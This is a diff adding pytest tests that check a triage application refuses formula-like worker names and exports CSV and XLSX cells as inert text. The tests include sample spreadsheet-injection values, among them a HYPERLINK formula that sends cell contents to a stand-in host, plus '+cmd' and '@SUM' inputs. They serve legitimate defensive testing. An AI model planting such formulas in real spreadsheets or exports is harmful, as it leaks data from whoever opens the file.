@@ -119,3 +119,47 @@ def test_files_the_command_creates_are_private_whatever_the_umask(tmp_path: Path
     assert stat.S_IMODE(database.parent.stat().st_mode) == 0o700
     for path in (database, managers):
         assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+
+
+# 8. Annex A never carries a live spreadsheet formula.
+
+FORMULA = '=HYPERLINK("https://example.org/?d="&A2&B2,"open")'
+
+
+def test_a_worker_name_that_is_a_formula_is_refused_as_an_action() -> None:
+    from pydantic import ValidationError  # noqa: PLC0415
+
+    from schemas.triage import ManagerAction  # noqa: PLC0415
+
+    base = {
+        "action_id": "a",
+        "kind": "allocate",
+        "case_id": "c",
+        "local_authority": "808",
+        "actor": "duty.manager",
+        "submitted_at": "2026-12-04T10:00:00Z",
+    }
+    for name in (FORMULA, "+44 1234", "@SUM(A1)", "-2+3", "\tx"):
+        with pytest.raises(ValidationError, match="worker"):
+            ManagerAction.model_validate(base | {"worker": name})
+    for name in ("Sam Okafor", "Mary-Jane O'Neil", "Zoë Ç. Brontë", "Assessment Team 2"):
+        assert ManagerAction.model_validate(base | {"worker": name}).worker == name
+
+
+def test_cells_already_recorded_reach_csv_and_xlsx_as_text(tmp_path: Path) -> None:
+    import csv  # noqa: PLC0415
+    import io  # noqa: PLC0415
+
+    from openpyxl import load_workbook  # noqa: PLC0415
+
+    from frontdoor.cli.export import write_csv  # noqa: PLC0415
+    from runtime.records_db.reports import workbook  # noqa: PLC0415
+
+    lists = {"List 3": (("Worker", "Team"), [[FORMULA, "+cmd"], ["Sam", "@x"], ["-1", "ok"]])}
+    (path,) = write_csv(tmp_path, "annex", lists)
+    rows = list(csv.reader(path.open()))
+    assert rows[1:] == [["'" + FORMULA, "'+cmd"], ["Sam", "'@x"], ["'-1", "ok"]]
+    sheet = load_workbook(io.BytesIO(workbook(lists)))["List 3"]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [c.value for c in cells] == [FORMULA, "+cmd", "Sam", "@x", "-1", "ok"]
+    assert {c.data_type for c in cells} == {"s"}
